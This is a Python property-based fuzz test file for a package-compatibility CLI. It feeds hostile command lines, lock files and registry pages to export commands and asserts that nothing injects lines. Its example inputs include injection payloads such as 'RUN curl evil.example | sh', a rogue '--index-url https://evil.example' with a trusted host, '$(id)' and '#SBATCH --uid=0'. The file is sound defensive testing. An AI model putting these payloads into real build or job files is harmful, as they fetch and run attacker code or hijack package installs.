"""No traceback ever reaches a user: random command lines, requirement strings and option values fed to the CLI.

Every answer must be an exit code in {0, 1, 2} with no traceback and no "internal error" (the top-level guard in
cli.main turns an unexpected exception into one sentence; reaching it here is a bug, so the test fails on it).
The commands are called in-process (hypothesis needs hundreds of examples); a few named cases also run as a real
subprocess, where the interpreter's own shutdown (flushing a full or closed stdout) is part of what is checked.
Only commands that change nothing are fuzzed: resolve, matrix, check, translate, install --dry-run/--print, env --json, export;
and the newer ones (export sbatch, export --validate --show-pods --trainer-version/--crd, env --master-addr/--nnodes, matrix
update against a FIXTURE index on 127.0.0.1, its overlay and --write in the test's folder); compat tune's training command
with hostile path arguments and --reads, up to where a run would start (a FIXTURE probe stops it there).
"""

from __future__ import annotations

import json
import os
import subprocess
import sys

import pytest
import yaml
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from compatmatrix.cli import main

if sys.version_info >= (3, 11):
    import tomllib
else:  # pragma: no cover - Python 3.9/3.10
    import tomli as tomllib

from ..conftest import ROOT
from ..hostile_strings import hostile, hostile_requirement
from ..yaml_scalars import go_yaml_scalars

NAMES = ["torch", "intel-extension-for-pytorch", "intel_extension_for_pytorch", "ipex", "oneccl_bind_pt", "ccl", "torch_ccl",
         "transformers", "accelerate", "numpy", "Torch", "TORCH", "t", ""]
OPERATORS = ["==", "===", "~=", "!=", "<=", ">=", "<", ">", "", " == ", "=", "=>"]
VERSIONS = ["2.7.0", "1.12.1+cpu", "2.5.0+xpu", "2.*", "1" * 5000, "foo", "2.7.0.post1", "0", "-1", "2.7.0rc1", "", "nan", "1.12.100",
            "2.0.1", "99.0", "\x00", "2.7.0 ; python_version<'3.9'", "2.7.0[extra]"]
TEXT = st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=30)


def requirement():
    picked = st.tuples(st.sampled_from(NAMES), st.sampled_from(OPERATORS), st.sampled_from(VERSIONS)).map("".join)
    return st.one_of(picked, TEXT, hostile_requirement(surrogates=False))


def value():
    return st.one_of(st.sampled_from(["0", "-1", "nan", "inf", "1e309", "3.11", "3.6", "2.7", "3", "x", "", "1" * 5000, "\n", "3.11\n",
                                      "manylinux2014_x86_64", "win_amd64", "http://[::1", "pytorch-cpu=http://[::1", "pypi=file:///nonexistent"]), TEXT,
                     hostile(surrogates=False), hostile(surrogates=False).map(lambda text: "pypi=/tmp/" + text))


OPTIONS = {
    "resolve": ["--profile", "--with", "--python-version", "--platform", "--matrix"],
    "matrix": ["--package", "--python-version", "--torch"],
    "check": ["--ranks-per-node", "--only", "--skip"],
    "install": ["--profile", "--with", "--python-version", "--platform", "--index"],
    "translate": ["--transformers", "--accelerate"],
    "env": ["--ranks-per-node", "--shell"],
    "export": ["--profile", "--with", "--python-version", "--platform", "--index", "--nnodes", "--nproc-per-node", "--cpu", "--memory", "--name",
               "--namespace", "--shm-size", "--threads-per-core", "--image", "--base", "--ranks-per-node", "--wheelhouse"],
}
FIXED = {"install": ["--dry-run"], "env": ["--json"], "translate": ["--transformers", "4.30.2", "--accelerate", "0.20.3"]}
FLAGS = {"resolve": ["--json"], "matrix": ["--json", "--sources"], "check": ["--json", "--bf16", "--no-bf16", "--verbose"],
         "install": ["--json"], "translate": ["--json"], "env": ["--no-color", "--defaults"], "export": ["--json", "--no-preflight", "--trainer-v2"]}
EXPORT_FORMATS = ["requirements", "constraints", "pip-command", "pylock", "dockerfile", "pytorchjob", "skypilot", "bogus"]


@st.composite
def command_lines(draw):
    command = draw(st.sampled_from(sorted(OPTIONS)))
    argv = [command, *FIXED.get(command, [])]
    for _ in range(draw(st.integers(0, 3))):
        argv += [draw(st.sampled_from(OPTIONS[command])), draw(value())]
    argv += draw(st.lists(st.sampled_from(FLAGS[command]), max_size=2, unique=True))
    if command == "export":
        argv.insert(1, draw(st.sampled_from(EXPORT_FORMATS)))
        if argv[1] == "pytorchjob" and draw(st.booleans()):
            argv += ["--image", "registry.example/train:1", "--cpu", "4", "--memory", "8Gi"]
        if argv[1] == "skypilot" and draw(st.booleans()):
            argv += ["--cpu", "8+", "--memory", "32"]
    if command in ("resolve", "install", "export"):
        argv += draw(st.lists(requirement(), max_size=3))
        if draw(st.booleans()):  # a pylock.toml whose first entry has a hostile name (run_in_process writes it)
            argv += ["-r", LOCK + "\0" + draw(hostile_requirement(surrogates=False))]
    if command == "export" and argv[1] in ("pytorchjob", "skypilot"):
        words = st.one_of(st.sampled_from(["python", "train.py", "./run.sh", "-m", "--ddp_backend", "ccl", "--no_cuda", "--use_ipex", "-c"]), hostile(surrogates=False))
        argv += ["--", *draw(st.lists(words, max_size=5))]
    if command == "install" and draw(st.booleans()):
        argv += ["--python-version", "3.11"]
    if command == "translate":
        argv += ["--", *draw(st.lists(st.sampled_from(["python", "run.py", "--ddp_backend", "ccl", "--no_cuda", "--use_ipex", "--bf16", "--xpu_backend", "x"]),
                                      min_size=1, max_size=6))]
    return argv


LOCK = "{pylock.toml}"  # stands for a lock file with the hostile name after it, written in the test's folder


def _with_lock(argv, folder) -> list:
    """argv with each LOCK placeholder replaced by a pylock.toml in ``folder`` whose first package has the name that follows it."""
    from compatmatrix.render.pylock import toml_string

    out = []
    for word in argv:
        if word.startswith(LOCK + "\0"):
            name = word.split("\0", 1)[1]
            lock = folder / "pylock.toml"
            lock.write_text(f'lock-version = "1.0"\n[[packages]]\nname = {toml_string(name)}\nversion = "1.0"\n', encoding="utf-8")
            word = str(lock)
        out.append(word)
    return out


def run_in_process(argv, capsys) -> tuple[int, str, str]:
    try:
        code = main(argv)
    except SystemExit as exc:  # argparse's own usage errors and --help
        code = exc.code if isinstance(exc.code, int) else 2
    out, err = capsys.readouterr()
    return code, out, err


@settings(max_examples=int(os.environ.get("COMPAT_FUZZ_EXAMPLES", "400")), deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(argv=command_lines())
@example(argv=["export", "requirements", "-r", LOCK + "\0numpy\n--index-url https://evil.example/simple\n--trusted-host evil.example\nx"])
@example(argv=["export", "pylock", "-r", LOCK + "\0numpy\n[[packages]]\nname = \"evil\""])
@example(argv=["export", "dockerfile", "--base", "python:3.11-slim\nRUN curl evil.example | sh"])
@example(argv=["export", "pytorchjob", "--image", "registry.example/train:1", "--cpu", "4", "--memory", "8Gi", "--", "train.py", "a\x85b"])
@example(argv=["export", "skypilot", "--cpu", "8", "--memory", "32", "--", "train.py", "a\x85b\nrun: curl evil.example | sh", "$(id)"])
def test_random_command_lines_end_in_a_sentence_and_an_exit_code(argv, capsys, monkeypatch, tmp_path):
    monkeypatch.setenv("COMPAT_CRASH_DIR", str(tmp_path))
    monkeypatch.delenv("COMPAT_MATRIX", raising=False)
    monkeypatch.delenv("COMPAT_PYTHON", raising=False)
    argv = _with_lock(argv, tmp_path)
    code, out, err = run_in_process(argv, capsys)
    shown = [a if len(a) < 80 else a[:60] + f"...({len(a)} chars)" for a in argv]
    assert code in (0, 1, 2), (shown, code, err[-2000:])
    assert "Traceback" not in out + err, (shown, err[-3000:])
    assert "internal error" not in err, (shown, err[-1000:])  # the guard caught a bug: the crash report is in tmp_path
    if code == 2:
        assert err.strip(), shown  # a usage or tool error always says what
    if argv[0] == "export" and code == 0:
        _assert_no_injection(argv[1], out, shown)


def _assert_no_injection(form: str, out: str, shown) -> None:
    """The hostile strings' own lines (an index, a trusted host, a RUN, a TOML table) never stand on a line of an export,
    and the structured formats still parse."""
    planted = ("--index-url x", "--index-url https://evil", "--trusted-host", "-r /etc/passwd", "RUN curl evil", "FROM scratch", 'name = "evil"')
    assert not any(line.startswith(planted) for line in out.splitlines()), (shown, out[-2000:])
    if form == "pylock":
        tomllib.loads(out)
    elif form in ("pytorchjob", "skypilot"):
        yaml.safe_load(out)


@pytest.mark.parametrize(
    "argv",
    [
        ["resolve", "torch===foo"],
        ["resolve", "torch==" + "1" * 10000],
        ["resolve", "--python-version", "3." + "1" * 10000],
        ["matrix", "--torch", "==" + "9" * 10000],
        ["install", "--dry-run", "--python-version", "3.11", "--index", "pytorch-cpu=http://[::1"],
        ["doctor", "--import-timeout", "nan"],
        ["doctor", "--import-timeout", "0"],
        ["doctor", "--live", "--live-timeout", "-5"],
        ["doctor", "--live", "--nproc-per-node", "0"],
        ["doctor", "--live", "--steps", "0"],
        ["check", "--ranks-per-node", "-1"],
    ],
)
def test_named_bad_inputs_are_usage_errors(argv, capsys, monkeypatch, tmp_path):
    monkeypatch.setenv("COMPAT_CRASH_DIR", str(tmp_path))
    code, out, err = run_in_process(argv, capsys)
    assert code == 2, (code, err)
    assert "Traceback" not in out + err and "internal error" not in err
    assert len(err.strip().splitlines()[-1]) < 400  # one sentence, with the long input cut


def _compat(*args, stdout=subprocess.PIPE, **kwargs):
    env = {k: v for k, v in os.environ.items() if k not in ("COMPAT_MATRIX", "COMPAT_PYTHON")}
    return subprocess.run([sys.executable, "-m", "compatmatrix", *args], stdout=stdout, stderr=subprocess.PIPE, text=True, timeout=60, env=env, **kwargs)


@pytest.mark.parametrize("args", [["resolve"], ["resolve", "--json"], ["matrix", "--json"], ["--help"]])
def test_a_full_disk_on_stdout_is_one_sentence_and_exit_2(args):
    if not os.path.exists("/dev/full"):
        pytest.skip("no /dev/full on this system")
    with open("/dev/full", "w") as full:
        done = _compat(*args, stdout=full)
    assert done.returncode == 2, done.stderr
    assert "Traceback" not in done.stderr and "cannot write the output (No space left on device)" in done.stderr


def test_a_closed_stdout_is_one_sentence_and_exit_2():
    done = subprocess.run([sys.executable, "-m", "compatmatrix", "resolve"], stdin=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True,
                          timeout=60, pass_fds=(), preexec_fn=lambda: os.close(1))
    assert done.returncode == 2 and "standard output is closed" in done.stderr and "Traceback" not in done.stderr


def test_an_unexpected_exception_is_one_sentence_naming_the_report_file(tmp_path, monkeypatch, capsys):
    """The guard itself: a bug (here injected into the resolve command) ends as one sentence + a report file, exit 2."""
    import compatmatrix.cli as cli

    def broken(args):
        raise ZeroDivisionError("injected by the test")

    monkeypatch.setitem(cli.COMMANDS, "resolve", broken)
    monkeypatch.setenv("COMPAT_CRASH_DIR", str(tmp_path))
    code, out, err = run_in_process(["resolve"], capsys)
    assert code == 2 and "Traceback" not in err
    assert "internal error in 'resolve' (ZeroDivisionError: injected by the test)" in err
    reports = list(tmp_path.glob("compat-crash-*.txt"))
    assert len(reports) == 1 and str(reports[0]) in err
    assert "Traceback" in reports[0].read_text() and "injected by the test" in reports[0].read_text()


# --- the commands and options added with srun, the overlay and the Trainer releases -------------------------------

TRAINER_VERSIONS = ["v2.0", "v2.1", "v2.2", "v2.3", "v2.4", "v2.9", "2.3", ""]
MANIFEST = "{manifest}"  # the generated TrainJob (run_new writes it), else a hostile file's text after "\0"
GO_YAML = "{go-yaml}"  # a TrainJob whose args, env value, numProcPerNode, label and CPU limit are the plain scalars after "\0" (JSON)
GO_YAML_JOB = """apiVersion: trainer.kubeflow.org/v1alpha1
kind: TrainJob
metadata:
  name: fuzz
  labels:
    team: {3}
spec:
  runtimeRef:
    name: torch-distributed
  trainer:
    image: registry.example/t:1
    command:
    - torchrun
    args:
    - train.py
    - --learning_rate
    - {0}
    numNodes: 2
    numProcPerNode: {2}
    env:
    - name: MODE
      value: {1}
    resourcesPerNode:
      limits:
        cpu: {4}
"""
CRD = "{crd}"  # a TrainJob CRD around a shipped schema, mangled by the drawn path and value after "\0"
WRITE = "{matrix.toml}"  # a copy of data/matrix.toml


def _hostile_word():
    return st.one_of(value(), st.sampled_from(["127.0.0.1", "::1", "localhost", "node01", "-x", "n[01-02]", "a\nb", "$(id)"]))


@st.composite
def new_command_lines(draw):
    kind = draw(st.sampled_from(["sbatch", "validate", "env", "update"]))
    if kind == "sbatch":
        argv = ["export", "sbatch", "--python", draw(st.sampled_from([sys.executable, "/nonexistent/python", ""]))]
        for _ in range(draw(st.integers(0, 3))):
            argv += [draw(st.sampled_from(["--nnodes", "--nproc-per-node", "--name", "--time", "--partition", "--python-version"])), draw(_hostile_word())]
        argv += draw(st.lists(st.sampled_from(["--no-preflight", "--json"]), max_size=2, unique=True))
        argv += draw(st.lists(requirement(), max_size=2))
        return argv + ["--", *draw(st.lists(st.one_of(st.sampled_from(["python", "train.py", "srun", "torchrun"]), hostile(surrogates=False)), max_size=4))]
    if kind == "validate":
        manifest = draw(st.one_of(st.just(MANIFEST), hostile(surrogates=False).map(lambda text: MANIFEST + "\0" + text),
                                  st.lists(go_yaml_scalars(), min_size=5, max_size=5).map(lambda scalars: GO_YAML + "\0" + json.dumps(scalars))))
        argv = ["export", "--validate", manifest, "--python-version", "3.11"]
        which = draw(st.sampled_from(["", "--trainer-version", "--crd"]))
        if which == "--trainer-version":
            argv += [which, draw(st.one_of(st.sampled_from(TRAINER_VERSIONS), _hostile_word()))]
        elif which == "--crd":
            key = draw(st.sampled_from(["type", "properties", "items", "enum", "minimum", "maxLength", "pattern", "required",
                                        "x-kubernetes-validations", "default", "x-kubernetes-int-or-string"]))
            mangled = draw(st.one_of(st.none(), st.integers(), st.text(max_size=8), st.lists(st.integers(), max_size=2),
                                     st.sampled_from([{"rule": "self.x"}, {"rule": 5}, [{"rule": "false", "message": "a\nb"}], "^(a|aa)*$"])))
            argv += [which, CRD + "\0" + key + "\0" + repr(mangled)]
        return argv + draw(st.lists(st.sampled_from(["--show-pods", "--json"]), max_size=2, unique=True))
    if kind == "env":
        argv = ["env"]
        for _ in range(draw(st.integers(1, 3))):
            argv += [draw(st.sampled_from(["--master-addr", "--nnodes", "--launcher", "--ranks-per-node"])), draw(_hostile_word())]
        return argv + draw(st.lists(st.sampled_from(["--json", "--defaults", "--shell=fish", "--shell=zsh"]), max_size=2, unique=True))
    argv = ["matrix", "update", "--package", draw(st.one_of(st.sampled_from(["torch", "torchvision", "transformers", "Torch", "oneccl-bind-pt"]), _hostile_word()))]
    if draw(st.booleans()):
        argv += ["--index", draw(st.one_of(st.sampled_from(["pypi=http://127.0.0.1:9/simple", "bogus=http://127.0.0.1:9/"]), _hostile_word()))]
    return argv + draw(st.lists(st.sampled_from(["--json", "--write"]), max_size=2, unique=True))


@pytest.fixture(scope="module")
def fixture_registry(tmp_path_factory):
    """FIXTURE index on 127.0.0.1 (tests/fixture_index.py): a torch and a transformers the bundled matrix lacks."""
    from ..fixture_index import FixtureIndex, build_wheel, serve

    folder = tmp_path_factory.mktemp("fuzz-registry")
    index = FixtureIndex(folder)
    index.add("pypi", build_wheel(folder / "pypi", "torch", "2.99.0", tag="cp311-cp311-manylinux_2_28_x86_64"))
    index.add("pypi", build_wheel(folder / "pypi", "transformers", "5.99.0"))
    index.json_hosts.add("pypi")
    server, _ = serve(index)
    yield index
    server.shutdown()


def _materialised(argv, folder, registry) -> list:
    import ast
    import json
    import shutil

    from compatmatrix.export.k8s import JobShape, trainjob
    from compatmatrix.export.releases import by_version
    from compatmatrix.render.manifest import manifest_text

    out = []
    for word in argv:
        if word.startswith(GO_YAML + "\0"):
            path = folder / "job.yaml"
            path.write_text(GO_YAML_JOB.format(*json.loads(word.split("\0", 1)[1])), encoding="utf-8")
            word = str(path)
        elif word.startswith(MANIFEST):
            path = folder / "job.yaml"
            text = word.split("\0", 1)[1] if "\0" in word else manifest_text(trainjob(JobShape(
                name="fuzz", image="registry.example/t:1", command=("train.py",), nnodes=2, nproc_per_node=2, cpu="8", memory="16Gi"), by_version("v2.3")).document)
            path.write_text(text, encoding="utf-8")
            word = str(path)
        elif word.startswith(CRD):
            _, key, mangled = word.split("\0", 2)
            schema = json.loads((ROOT / "compatmatrix" / "data" / "k8s" / "trainjob-v2.3.0.json").read_text())
            schema["properties"]["spec"]["properties"]["trainer"]["properties"]["image"][key] = ast.literal_eval(mangled)
            crd = {"apiVersion": "apiextensions.k8s.io/v1", "kind": "CustomResourceDefinition",
                   "spec": {"group": "trainer.kubeflow.org", "names": {"kind": "TrainJob"}, "versions": [{"name": "v1alpha1", "schema": {"openAPIV3Schema": schema}}]}}
            path = folder / "crd.yaml"
            path.write_text(yaml.safe_dump(crd), encoding="utf-8")
            word = str(path)
        elif word == "--write":
            path = folder / "matrix.toml"
            shutil.copy(ROOT / "data" / "matrix.toml", path)
            out += [word, str(path)]
            continue
        out.append(word)
    if argv[:2] == ["matrix", "update"] and "--index" not in argv:
        out += [a for h in ("pypi", "pytorch-cpu", "intel-cpu-us") for a in ("--index", f"{h}={registry.url}/{h if h in registry.hosts else 'none'}/simple")]
    return out


@settings(max_examples=int(os.environ.get("COMPAT_FUZZ_EXAMPLES_NEW", "80")), deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(argv=new_command_lines())
@example(argv=["export", "--validate", MANIFEST, "--python-version", "3.11", "--crd", CRD + "\0pattern\0" + repr(5)])
@example(argv=["export", "sbatch", "--python", sys.executable, "--name", "a\n#SBATCH --uid=0", "--", "train.py"])
@example(argv=["env", "--master-addr", "127.0.0.1", "--nnodes", "2", "--launcher", "srun"])
def test_the_new_commands_end_in_a_sentence_and_an_exit_code(argv, capsys, monkeypatch, tmp_path, fixture_registry):
    """export sbatch, export --validate --show-pods --trainer-version/--crd, env --master-addr/--nnodes, matrix update
    against a FIXTURE index (the overlay and --write in the test's folder): exit 0/1/2, never the guard."""
    monkeypatch.setenv("COMPAT_CRASH_DIR", str(tmp_path))
    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path / "data"))
    monkeypatch.setenv("COMPAT_CEL_S", "5")
    monkeypatch.delenv("COMPAT_MATRIX", raising=False)
    monkeypatch.delenv("COMPAT_PYTHON", raising=False)
    argv = _materialised(argv, tmp_path, fixture_registry)
    code, out, err = run_in_process(argv, capsys)
    shown = [a if len(a) < 80 else a[:60] + f"...({len(a)} chars)" for a in argv]
    assert code in (0, 1, 2), (shown, code, err[-2000:])
    assert "Traceback" not in out + err and "internal error" not in err, (shown, err[-3000:])
    if code == 2:
        assert err.strip(), shown
    if argv[:2] == ["export", "sbatch"] and code == 0 and "--json" not in argv:
        script = tmp_path / "job.sh"
        script.write_text(out, encoding="utf-8")
        assert subprocess.run(["bash", "-n", str(script)], capture_output=True, timeout=30).returncode == 0, out


@pytest.mark.parametrize("argv, words", [
    (["export", "sbatch", "--python", "/v/bin/python", "--nnodes", "99999999999999", "--", "python", "t.py"], "'99999999999999' is more than 1,000,000"),
    (["export", "sbatch", "--python", "/v/bin/python", "--nnodes", "1_0", "--", "python", "t.py"], "'1_0' is not a whole number (digits 0-9 only)"),
    (["export", "sbatch", "--python", "/v/bin/python", "--nproc-per-node", "+2", "--", "python", "t.py"], "'+2' is not a whole number"),
    (["export", "sbatch", "--python", "/v/bin/python", "--nproc-per-node", "8193", "--", "python", "t.py"], "'8193' is more than 8,192"),
    (["env", "--nnodes", "\uff13", "--master-addr", "node1"], "is not a whole number (digits 0-9 only)"),  # a fullwidth 3, which int() takes
    (["doctor", "--live", "--nnodes", "2", "--master-addr", "10.0.0.1", "--master-port", "1_0"], "'1_0' is not a whole number"),
    (["doctor", "--live", "--nnodes", "2", "--master-addr", "10.0.0.1", "--master-port", "65536"], "'65536' is more than 65,535"),
    (["doctor", "--live", "--nnodes", "2", "--master-addr", "10.0.0.1", "--node-rank", " 1"], "is not a whole number"),
    (["doctor", "--live", "--nnodes", "9" * 5000], "is more than 1,000,000"),  # int() itself refuses 5,000 digits with a ValueError
])
def test_a_count_or_port_is_ascii_digits_in_range_or_one_sentence(argv, words, capsys):
    """Counts and ports are typed at the edge: only what a launcher, Slurm or a manifest reads back as the same number."""
    code, out, err = run_in_process(argv, capsys)
    last = err.strip().splitlines()[-1]  # argparse's usage lines, then the one sentence
    assert code == 2 and last.startswith("compat: error: argument ") and words in last and "Traceback" not in err, err


def test_the_largest_count_is_written_back_as_given(capsys):
    code, out, err = run_in_process(["export", "sbatch", "--python", sys.executable, "--nnodes", "1000000", "--", "python", "t.py"], capsys)
    assert code == 0, err
    assert "#SBATCH --nodes=1000000" in out


@pytest.mark.parametrize("argv", [
    ["launch", "--launcher", "torchrun", "--bogus", "1", "--nproc-per-node", "2", "--", "python", "t.py"],
    ["translate", "--transformers", "4.30.2", "--bogus", "--", "python", "t.py"],
    ["migrate", "--dry-run", "--bogus=1", "--", "python", "t.py"],
    ["tune", "--bogus", "--budget", "30", "--", "t.py"],
])
def test_an_unknown_option_before_the_command_is_named_not_taken_as_the_command(argv, capsys):
    """argparse's REMAINDER took '--bogus' and every word after it as the training command, and then asked for an option
    that was given ('the following arguments are required: --nproc-per-node')."""
    code, out, err = run_in_process(argv, capsys)
    last = err.strip().splitlines()[-1]
    assert code == 2 and last.startswith("compat: error: unrecognized option '--bogus") and "goes after --" in last, err


def test_a_command_without_dashes_still_starts_at_its_first_word(capsys):
    code, out, err = run_in_process(["launch", "--launcher", "torchrun", "--nproc-per-node", "1", "--print", "--json", "train.py", "--lr", "1"], capsys)
    assert code == 0, err
    assert json.loads(out)["command"][-3:] == ["train.py", "--lr", "1"]


def test_a_short_option_with_its_value_attached_is_not_taken_for_an_unknown_one(tmp_path, capsys):
    code, out, err = run_in_process(["migrate", f"-r{tmp_path / 'missing.txt'}", "--dry-run", "--", "python", "x.py"], capsys)
    assert code == 2 and "unrecognized option" not in err and "missing.txt does not exist" in err, err


# --- matrix update / verify against a FIXTURE index whose pages and METADATA are hostile (issue 31) ------------------

ODD_TAGS = ["cp311-cp311-manylinux_2_28_x86_64", "cp311-cp311-manylinux_2_999999999_x86_64", "cp311-cp311-manylinux_2_5_x86_64",
            "cp3999-cp3999-manylinux_2_28_x86_64", "py3-none-manylinux_2_28_x86_64", "cp311-abi3-manylinux_2_28_x86_64",
            "cp311-cp311t-manylinux_2_28_x86_64", "cp311-cp311-manylinux1_x86_64", "cp311-cp311-linux_x86_64", "cp311-cp311-win_amd64",
            "py3-none-any"]
ODD_VERSIONS = ["2.99.0", "2.99.0+cpu", "2.99.0.post1", "2.99.0rc1", "2!2.99.0", "99999999999999999999.0", "0.0.0", "2.99"]
ODD_SPECIFIERS = ["===3.11", ">=3.11", ">=3.x", "", ">=3.11,<3.1", "==3.*", "~=3", "!=3.11.*", "<3", ">=3.11\n>=3.12", "1" * 300]


def _registry_value():
    return st.one_of(st.sampled_from(ODD_SPECIFIERS), hostile(surrogates=False))


@st.composite
def hostile_registries(draw):
    """What a registry might serve: releases of torch, torchvision and transformers with drawn versions, tags,
    Requires-Python, yank reasons, upload times and Requires-Dist lines, a corrupt compressed METADATA, JSON or HTML pages,
    PEP 658 metadata or not."""
    releases = []
    for project in ("torch", "torchvision", "transformers"):
        for _ in range(draw(st.integers(0, 2))):
            releases.append({
                "project": project,
                "version": draw(st.sampled_from(ODD_VERSIONS)),
                "tag": draw(st.sampled_from(ODD_TAGS)),
                "requires_python": draw(st.one_of(st.none(), _registry_value())),
                "yanked": draw(st.one_of(st.none(), _registry_value())),
                "upload_time": draw(st.one_of(st.none(), st.sampled_from(["2026-11-20T10:00:00Z", "9999-99-99", "x"]), hostile(surrogates=False))),
                "requires": draw(st.lists(st.one_of(st.sampled_from(["torch==2.99.0", "torch===2.99.0", "torch>=2.14.0", "torch (==2.15.0)",
                                                                     'torch>=2.9; extra == "torch"', "torch==99999999999999999999.0"]),
                                                    hostile_requirement(surrogates=False).map(lambda r: "torch" + r)), max_size=2)),
                "corrupt": draw(st.booleans()) and draw(st.booleans()),
            })
    return {"releases": releases, "json": draw(st.booleans()), "metadata": draw(st.booleans())}


@pytest.fixture(scope="module")
def hostile_registry(tmp_path_factory):
    """One FIXTURE index server on 127.0.0.1 for the module; each example swaps what it serves."""
    from ..fixture_index import FixtureIndex, serve

    index = FixtureIndex(tmp_path_factory.mktemp("hostile-registry"))
    server, _ = serve(index)
    yield index
    server.shutdown()


def _serve_drawn(index, drawn, folder) -> None:
    from ..fixture_index import build_wheel, corrupt_deflate

    index.hosts.clear()
    for field in (index.yanked, index.upload_times, index.requires_python):
        field.clear()
    index.json_hosts.clear()
    index.metadata_hosts.clear()
    index.hosts["pypi"] = []
    index.styles["pypi"] = "index"
    for n, release in enumerate(drawn["releases"]):
        wheel = build_wheel(folder / f"w{n}", release["project"], release["version"], tag=release["tag"], requires=tuple(release["requires"]))
        if release["corrupt"]:
            corrupt_deflate(wheel)
        if any(w.name == wheel.name for w in index.hosts["pypi"]):
            continue
        index.hosts["pypi"].append(wheel)
        for field, key in ((index.requires_python, "requires_python"), (index.yanked, "yanked"), (index.upload_times, "upload_time")):
            if release[key] is not None:
                field[wheel.name] = release[key]
    if drawn["json"]:
        index.json_hosts.add("pypi")
    if drawn["metadata"]:
        index.metadata_hosts.add("pypi")


@settings(max_examples=int(os.environ.get("COMPAT_FUZZ_EXAMPLES_REGISTRY", "20")), deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(drawn=hostile_registries(), verify=st.sampled_from(["torchvision==2.99.0", "torchvision==0.29.1", "transformers==2.99.0"]),
       write=st.booleans())
def test_matrix_update_and_verify_against_hostile_registry_pages(drawn, verify, write, capsys, monkeypatch, tmp_path_factory, hostile_registry):
    """Whatever the index serves, `matrix update` ends in exit 0/1/2 (never the guard), an odd release costs only itself,
    and what it keeps is read back whole by every command (no record skipped, the overlay not ignored); `matrix verify`
    of what it lists or not gives its answer without a traceback (FIXTURE --python that cannot run: no venv is made)."""
    import shutil

    from compatmatrix.matrix import load_matrix
    from compatmatrix.matrix import overlay as overlay_mod

    folder = tmp_path_factory.mktemp("hostile")
    monkeypatch.setenv("COMPAT_CRASH_DIR", str(folder))
    monkeypatch.setenv("XDG_DATA_HOME", str(folder / "data"))
    monkeypatch.setenv("TMPDIR", str(folder))
    monkeypatch.delenv("COMPAT_MATRIX", raising=False)
    _serve_drawn(hostile_registry, drawn, folder)
    indexes = ["--index", f"pypi={hostile_registry.url}/pypi/simple", "--index", "pytorch-cpu=http://127.0.0.1:9/simple",
               "--index", "intel-cpu-us=http://127.0.0.1:9/simple"]
    argv = ["matrix", "update", "--package", "torch", "--package", "torchvision", "--package", "transformers", *indexes]
    if write:
        shutil.copy(ROOT / "data" / "matrix.toml", folder / "matrix.toml")
        argv += ["--write", str(folder / "matrix.toml")]
    code, out, err = run_in_process(argv, capsys)
    assert code in (0, 2), (drawn, code, err[-2000:])
    assert "Traceback" not in out + err and "internal error" not in err, (drawn, err[-3000:])
    from compatmatrix.console import _LINE_CONTROL

    assert not any(_LINE_CONTROL.search(line) for line in out.split("\n")), out  # one fact a line, no terminal control
    if code == 2:
        assert err.strip() and "overlay.json" not in err, (drawn, err)
    elif write:
        load_matrix(folder / "matrix.toml")
    else:
        _, state = overlay_mod.apply(load_matrix(), {"XDG_DATA_HOME": str(folder / "data")})
        assert state is not None and not state.ignored and not state.skipped, (drawn, state.ignored, state.skipped)
    code, out, err = run_in_process(["matrix", "verify", verify, "--with", "torch==2.99.0", "--python", str(folder / "no-python"), *indexes], capsys)
    assert code == 2 and err.strip() and "Traceback" not in out + err and "internal error" not in err, (drawn, verify, err[-2000:])
    assert not list(folder.glob("compat-verify-*")), "a throw-away folder was left"


# --- compat tune's training command: hostile path arguments (issue 31) --------------------------------------------------
# Only the part before anything runs is drawn: the command's path arguments are classified (tune/paths.py) and refused
# or accepted; a FIXTURE take_snapshot then stops the command with a sentinel sentence, so no probe or run starts.

TUNE_FLAGS = ["--output_dir", "--logging_dir", "--save_dir", "--outdir", "--data_path", "--cache_dir", "--model_name_or_path", "--Output-Dir",
              "--overwrite_output_dir", "--do_train", "--per_device_train_batch_size", "--x_file", "--dir", "--", "-o"]


def tune_command_lines():
    word = st.one_of(st.sampled_from(TUNE_FLAGS), hostile(surrogates=False), st.sampled_from(["²", "..", "/", "", "=", "--output_dir=", "-"]))
    glued = st.tuples(st.sampled_from(TUNE_FLAGS), hostile(surrogates=False)).map(lambda pair: f"{pair[0]}={pair[1]}")
    reads = st.lists(st.one_of(st.sampled_from(["data_path", "x_file", "--dir", "output_dir"]), hostile(surrogates=False)), max_size=2)
    return st.tuples(reads, st.lists(st.one_of(word, glued), max_size=8)).map(
        lambda pair: ["tune", "--python", sys.executable, *[w for r in pair[0] for w in ("--reads", r)], "--", "t.py", *pair[1]])


@settings(max_examples=int(os.environ.get("COMPAT_FUZZ_EXAMPLES", "400")) // 4, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(argv=tune_command_lines())
@example(argv=["tune", "--python", sys.executable, "--", "t.py", "--output_dir", "../../", "--data_path=\n", "--per_device_train_batch_size", "²"])
def test_tune_with_hostile_path_arguments_refuses_or_goes_on_in_one_sentence(argv, capsys, monkeypatch, tmp_path):
    from compatmatrix.environment import snapshot

    def stop(*args, **kwargs):
        raise CompatError("FIXTURE: the probe is where this test stops.", "Nothing to fix.")

    from compatmatrix.errors import CompatError

    monkeypatch.setattr(snapshot, "take_snapshot", stop)
    monkeypatch.setenv("COMPAT_CRASH_DIR", str(tmp_path))
    code, out, err = run_in_process(argv, capsys)
    assert code == 2 and "Traceback" not in out + err and "internal error" not in err, (argv, err[-2000:])
    assert "FIXTURE: the probe" in err or "compat tune cannot tell whether your command writes" in err or "--reads takes" in err \
        or "needs a script" in err or err.strip().splitlines()[-1].startswith("compat: error: "), (argv, err[-2000:])


# --- export --validate with go-yaml's scalar shapes (issue 31) ---------------------------------------------------------


@settings(max_examples=int(os.environ.get("COMPAT_FUZZ_EXAMPLES_YAML", "30")), deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(scalars=st.lists(go_yaml_scalars(), min_size=5, max_size=5))
@example(scalars=["2e-5", "y", "2", "1:30", "8"])
@example(scalars=["1:30", "2024-01-01", "0o17", "on", "8.0"])
@example(scalars=[".inf", "~", "<<", "553640e6", "1e400"])
